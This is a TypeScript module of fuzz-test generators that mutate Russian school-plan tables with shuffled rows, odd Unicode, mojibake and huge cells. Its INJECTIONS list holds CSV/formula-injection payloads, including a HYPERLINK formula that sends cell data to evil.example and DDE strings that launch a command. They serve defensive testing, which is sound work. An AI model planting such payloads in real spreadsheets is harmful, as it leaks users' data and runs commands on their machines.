/**
 * Shared generators for the fuzz suites: real tables (../shared/seeds, samples/) and fast-check
 * mutations of them — rows shuffled, split, glued, cells emptied, columns swapped, hostile Unicode,
 * formula-like text, 1 MB cells. Every mutation is a pure function of the grid and its random
 * parameters, so a failing case is reproduced from the fast-check seed alone.
 */
import fc from "fast-check";
import * as iconv from "iconv-lite";
import * as fs from "node:fs";
import * as path from "node:path";

export type Grid = string[][];

const ROOT = path.resolve(__dirname, "../..");
/** The seeds live next to the checkout (../shared/seeds); SEEDS_DIR overrides. Missing → none. */
const SEEDS_DIR = process.env.SEEDS_DIR ?? path.resolve(ROOT, "../shared/seeds");

function readDir(dir: string, ext: RegExp): { name: string; text: string }[] {
  if (!fs.existsSync(dir)) return [];
  return fs
    .readdirSync(dir)
    .filter((f) => ext.test(f))
    .sort()
    .map((f) => ({ name: f, text: fs.readFileSync(path.join(dir, f), "utf8") }));
}

/** Whole documents (order text + tables): the seeds and samples' roadmaps. */
export function seedDocuments(): { name: string; text: string }[] {
  return [...readDir(SEEDS_DIR, /\.txt$/), ...readDir(path.join(ROOT, "samples/roadmaps"), /\.(txt|tsv)$/)];
}

/** Runs of tab-separated lines in a text → grids (blank lines inside a run are skipped). */
export function gridsOfText(text: string): Grid[] {
  const grids: Grid[] = [];
  let cur: Grid = [];
  for (const line of text.split(/\r?\n/)) {
    if (line.includes("\t")) cur.push(line.split("\t"));
    else if (line.trim() !== "" && cur.length > 0) {
      grids.push(cur);
      cur = [];
    }
  }
  if (cur.length > 0) grids.push(cur);
  return grids.filter((g) => g.length >= 2);
}

export function seedGrids(): Grid[] {
  return seedDocuments().flatMap((d) => gridsOfText(d.text));
}

/** Result tables of samples/results (preamble lines kept as one-cell rows, as pasted). */
export function sampleResultGrids(): { name: string; grid: Grid }[] {
  return readDir(path.join(ROOT, "samples/results"), /\.(tsv|txt)$/).map((f) => ({
    name: f.name,
    grid: f.text.replace(/\r?\n$/, "").split(/\r?\n/).map((l) => l.split("\t")),
  }));
}

// ── Unicode ─────────────────────────────────────────────────────────────────────────────────────
export const ODD_CHARS = [
  "\u00A0", "\u00AD", "\u200B", "\u200C", "\u200D", "\u2060", "\uFEFF", "\u200E", "\u200F", "\u202E", "\u2028",
  "\uD800", "\uDFFF", "\u0301", "\u0000", "\u0007", "\t", "\n", "\r", "\r\n", '"', "'", "«", "»", "<", ">", "&",
  "😀", "👩‍🏫", "🇷🇺", "שלום", "مرحبا", "ё", "Ё", "№", "–", "—", "…", "\u0430\u0301", "a", "o", "c", "e", "p", "x",
];
const VOCAB = [
  "Мероприятие", "проведение", "мониторинга", "школ", "ШНОР", "Руководители", "ОО", "УО", "КО", "январь", "февраль",
  "май", "2023", "2024-2025", "г.", "ежегодно", "в течение года", "1.", "1.1.", "2.10", "3. 10", "до 01.09.2024",
  "по плану", "МБОУ «СОШ №1»", "Иванова И.И.", "отчёт", "справка", "100 %", "не менее 90%", "—", "--",
];
const charUnit = fc.oneof(
  { arbitrary: fc.constantFrom(..."абвгдеёжзийклмнопрстуфхцчшщъыьэюяАБВГДЕЖЗИКЛМНОПРСТУФХЦЧШЩЭЮЯ"), weight: 6 },
  { arbitrary: fc.constantFrom(..." ,.;:-()0123456789"), weight: 3 },
  { arbitrary: fc.constantFrom(...ODD_CHARS), weight: 2 },
  { arbitrary: fc.string({ unit: "binary", minLength: 1, maxLength: 1 }), weight: 1 },
);

/** Random cell text: genre words, Cyrillic, and every kind of odd character. */
export function cellText(maxLength = 40): fc.Arbitrary<string> {
  return fc.oneof(
    { arbitrary: fc.string({ unit: charUnit, maxLength }), weight: 4 },
    { arbitrary: fc.array(fc.constantFrom(...VOCAB), { maxLength: 5 }).map((w) => w.join(" ")), weight: 3 },
    { arbitrary: fc.constant(""), weight: 2 },
  );
}

export function randomGrid(maxRows = 12, maxCols = 7): fc.Arbitrary<Grid> {
  return fc.integer({ min: 1, max: maxCols }).chain((w) => fc.array(fc.array(cellText(), { minLength: 0, maxLength: w }), { maxLength: maxRows }));
}

// ── Formula / CSV injection ─────────────────────────────────────────────────────────────────────
export const INJECTIONS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Отчёт")',
  "=cmd|' /C calc'!A0",
  "+7 (812) 555-01-02",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=2*3",
  "=1+1",
];
export const HOSTILE_PREFIXES = ["=", "+", "-", "@", "\t", "\r"];

/** User text that a spreadsheet could take for a formula. */
export function hostileText(): fc.Arbitrary<string> {
  return fc.oneof(
    fc.constantFrom(...INJECTIONS),
    fc.tuple(fc.constantFrom(...HOSTILE_PREFIXES), cellText(30)).map(([p, s]) => p + s),
  );
}

// ── Mutations ───────────────────────────────────────────────────────────────────────────────────
type Op = { readonly name: string; readonly apply: (g: Grid) => Grid };
const idx = (n: number, len: number) => (len <= 0 ? 0 : n % len);
const clone = (g: Grid): Grid => g.map((r) => [...r]);

/** Deterministic shuffle (Park–Miller) so the op is a pure function of its parameter. */
function shuffled<T>(xs: T[], seed: number): T[] {
  const out = [...xs];
  let s = (seed % 2147483646) + 1;
  for (let i = out.length - 1; i > 0; i--) {
    s = (s * 16807) % 2147483647;
    const j = s % (i + 1);
    [out[i], out[j]] = [out[j], out[i]];
  }
  return out;
}

function splitCell(text: string, at: number): [string, string] {
  const words = text.split(" ");
  const k = idx(at, words.length + 1);
  return [words.slice(0, k).join(" "), words.slice(k).join(" ")];
}

const BIG = 1 << 20;
/** A ~1 MB cell made of the cell's own words (or a filler sentence), so loss is still measurable. */
export function bigCell(text: string): string {
  const unit = (text.trim() || "длинный текст ячейки") + " ";
  return unit.repeat(Math.ceil(BIG / unit.length)).slice(0, BIG).replace(/\S*$/, "").trimEnd();
}

const n = fc.nat();
const OP_LIST: fc.Arbitrary<Op>[] = [
  fc.tuple(n, n, n).map(([a, b, s]) => ({
    name: "shuffleRows",
    apply: (g) => {
      const i = idx(a, g.length), j = i + idx(b, g.length - i + 1);
      return [...g.slice(0, i), ...shuffled(g.slice(i, j), s), ...g.slice(j)];
    },
  })),
  fc.tuple(n, n).map(([r, at]) => ({
    name: "splitRow",
    apply: (g) => {
      if (g.length === 0) return g;
      const i = idx(r, g.length), parts = g[i].map((c) => splitCell(c, at));
      return [...g.slice(0, i), parts.map((p) => p[0]), parts.map((p) => p[1]), ...g.slice(i + 1)];
    },
  })),
  fc.tuple(n, fc.constantFrom(" ", "\n", "", "  ")).map(([r, sep]) => ({
    name: "glueRows",
    apply: (g) => {
      if (g.length < 2) return g;
      const i = idx(r, g.length - 1), w = Math.max(g[i].length, g[i + 1].length);
      const glued = Array.from({ length: w }, (_, c) => [g[i][c] ?? "", g[i + 1][c] ?? ""].filter((x) => x !== "").join(sep));
      return [...g.slice(0, i), glued, ...g.slice(i + 2)];
    },
  })),
  fc.array(fc.tuple(n, n), { minLength: 1, maxLength: 6 }).map((cells) => ({
    name: "emptyCells",
    apply: (g) => cellsOp(g, cells, () => ""),
  })),
  fc.tuple(n, n).map(([a, b]) => ({
    name: "swapColumns",
    apply: (g) => g.map((row) => {
      const r = [...row], i = idx(a, r.length), j = idx(b, r.length);
      [r[i], r[j]] = [r[j], r[i]];
      return r;
    }),
  })),
  fc.tuple(n, n, n, fc.string({ unit: charUnit, minLength: 1, maxLength: 8 })).map(([r, c, at, s]) => ({
    name: "insertUnicode",
    apply: (g) => cellsOp(g, [[r, c]], (t) => t.slice(0, idx(at, t.length + 1)) + s + t.slice(idx(at, t.length + 1))),
  })),
  fc.tuple(n, n, hostileText(), fc.boolean()).map(([r, c, h, replace]) => ({
    name: "injectFormula",
    apply: (g) => cellsOp(g, [[r, c]], (t) => (replace ? h : h[0] + t)),
  })),
  fc.tuple(n, fc.integer({ min: -3, max: 3 })).map(([r, d]) => ({
    name: "raggedRow",
    apply: (g) => cellsRow(g, r, (row) => (d < 0 ? row.slice(0, Math.max(1, row.length + d)) : [...row, ...Array(d).fill("")])),
  })),
  n.map((r) => ({ name: "duplicateRow", apply: (g) => cellsRow(g, r, (row) => row, true) })),
  fc.tuple(n, n, fc.constantFrom("<br>", "&nbsp;", "<b>", "</b>", "\u00A0", "\n", "- ")).map(([r, c, s]) => ({
    name: "htmlRemnant",
    apply: (g) => cellsOp(g, [[r, c]], (t) => t.replace(" ", ` ${s}`)),
  })),
  fc.tuple(n, n, fc.constantFrom("1\u00A0234", "12,5", "12.5%", "85 %", "—", "-", "н", "неявка", "6", "1", "-3", "1e3", "NaN", "Infinity", " 7 ", "0,0", "100,00%", "3/4", "")).map(
    ([r, c, v]) => ({ name: "numberNoise", apply: (g) => cellsOp(g, [[r, c]], (t) => (/\d/.test(t) ? v : t)) }),
  ),
  fc.tuple(n, n, fc.constantFrom("win1251", "koi8-r", "cp866")).map(([r, c, enc]) => ({
    name: "mojibake",
    // UTF-8 bytes read in a Russian code page: what a wrongly guessed encoding leaves in a cell.
    apply: (g) => cellsOp(g, [[r, c]], (t) => iconv.decode(Buffer.from(t, "utf8"), enc)),
  })),
];
export const OP_NAMES = ["shuffleRows", "splitRow", "glueRows", "emptyCells", "swapColumns", "insertUnicode", "injectFormula", "raggedRow", "duplicateRow", "htmlRemnant", "numberNoise", "mojibake"] as const;
export type OpName = (typeof OP_NAMES)[number];
if (OP_LIST.length !== OP_NAMES.length) throw new Error("mutate.ts: OP_NAMES and OP_LIST differ");
const OPS = new Map<OpName, fc.Arbitrary<Op>>(OP_NAMES.map((name, i) => [name, OP_LIST[i]]));
const BIG_OP: fc.Arbitrary<Op> = fc.tuple(n, n).map(([r, c]) => ({ name: "bigCell", apply: (g) => cellsOp(g, [[r, c]], bigCell) }));

function cellsOp(g: Grid, at: [number, number][], f: (t: string) => string): Grid {
  const out = clone(g);
  for (const [r, c] of at) {
    if (out.length === 0) break;
    const row = out[idx(r, out.length)];
    if (row.length > 0) row[idx(c, row.length)] = f(row[idx(c, row.length)]);
  }
  return out;
}

function cellsRow(g: Grid, r: number, f: (row: string[]) => string[], twice = false): Grid {
  if (g.length === 0) return g;
  const i = idx(r, g.length), row = f([...g[i]]);
  return [...g.slice(0, i), ...(twice ? [g[i], row] : [row]), ...g.slice(i + 1)];
}

export interface Mutated {
  readonly grid: Grid;
  /** Names of the mutations applied, for the counterexample report. */
  readonly ops: readonly string[];
}

export interface MutateOptions {
  /** Weight (out of 100) of adding a ~1 MB cell; 0 to never. */
  readonly bigCellPercent?: number;
  readonly maxOps?: number;
  /** Only these mutations (default: all). */
  readonly ops?: readonly OpName[];
  /** Weight of wholly random grids next to mutated seeds (default 1 in 4). */
  readonly randomWeight?: number;
}

/** A seed grid with 0…maxOps mutations applied, or a wholly random grid. */
export function mutatedGrid(seeds: readonly Grid[], opts: MutateOptions = {}): fc.Arbitrary<Mutated> {
  const big = opts.bigCellPercent ?? 1;
  const chosen = (opts.ops ?? OP_NAMES).map((name) => OPS.get(name) as fc.Arbitrary<Op>);
  const op = fc.oneof({ arbitrary: fc.oneof(...chosen), weight: 100 - big }, { arbitrary: BIG_OP, weight: big });
  const fromSeed = fc
    .tuple(fc.constantFrom(...(seeds.length > 0 ? seeds : [[["№", "Мероприятие"], ["1.", "Совещание"]]])), fc.array(op, { maxLength: opts.maxOps ?? 4 }))
    .map(([g, ops]) => ({ grid: ops.reduce((acc, o) => o.apply(acc), clone(g as Grid)), ops: ops.map((o) => o.name) }));
  const random = randomGrid().map((grid) => ({ grid, ops: ["random"] }));
  return fc.oneof({ arbitrary: fromSeed, weight: 3 }, { arbitrary: random, weight: opts.randomWeight ?? 1 });
}

// ── Single texts (a deadline or responsible cell) ───────────────────────────────────────────────
const TEXT_OPS: fc.Arbitrary<(t: string) => string>[] = [
  fc.tuple(n, fc.string({ unit: charUnit, minLength: 1, maxLength: 6 })).map(([at, s]) => (t) => t.slice(0, idx(at, t.length + 1)) + s + t.slice(idx(at, t.length + 1))),
  fc.tuple(n, n).map(([a, b]) => (t) => t.slice(0, idx(a, t.length + 1)) + t.slice(idx(a, t.length + 1) + idx(b, 6))),
  fc.constantFrom((t: string) => t.toUpperCase(), (t: string) => t.toLowerCase(), (t: string) => t.replace(/ /g, "\u00A0"), (t: string) => t.replace(/ /g, "")),
  fc.constantFrom((t: string) => t.replace(/\d/g, "9"), (t: string) => t.replace(/(\d{4})/g, "$1$1"), (t: string) => t + "\n" + t, (t: string) => `<br>${t}&nbsp;`),
  hostileText().map((h) => (t: string) => h[0] + t),
];

/** A real cell text with 0…3 character-level mutations, or a random text. */
export function mutatedText(seeds: readonly string[], maxLength = 60): fc.Arbitrary<string> {
  const base = seeds.length > 0 ? fc.constantFrom(...seeds) : cellText(maxLength);
  const mutated = fc.tuple(base, fc.array(fc.oneof(...TEXT_OPS), { maxLength: 3 })).map(([t, ops]) => ops.reduce((acc, f) => f(acc), t));
  return fc.oneof({ arbitrary: mutated, weight: 4 }, { arbitrary: cellText(maxLength), weight: 1 }, { arbitrary: fc.string({ unit: "binary", maxLength }), weight: 1 });
}

/** Distinct non-empty cells of the seed tables in the given column positions (all when omitted). */
export function seedCells(filter: (cell: string, column: number, row: readonly string[]) => boolean = () => true): string[] {
  const out = new Set<string>();
  for (const g of seedGrids()) for (const row of g) row.forEach((c, i) => c.trim() !== "" && filter(c, i, row) && out.add(c));
  return [...out].sort();
}

/** A grid with exactly one ~1 MB cell (most suites keep 1 MB cells to a few dedicated runs: they are slow). */
export function withBigCell(grids: fc.Arbitrary<Grid>): fc.Arbitrary<Grid> {
  return fc.tuple(grids, n, n).map(([g, r, c]) => (g.some((row) => row.length > 0) ? cellsOp(g.filter((row) => row.length > 0), [[r, c]], bigCell) : [[bigCell("")]]));
}
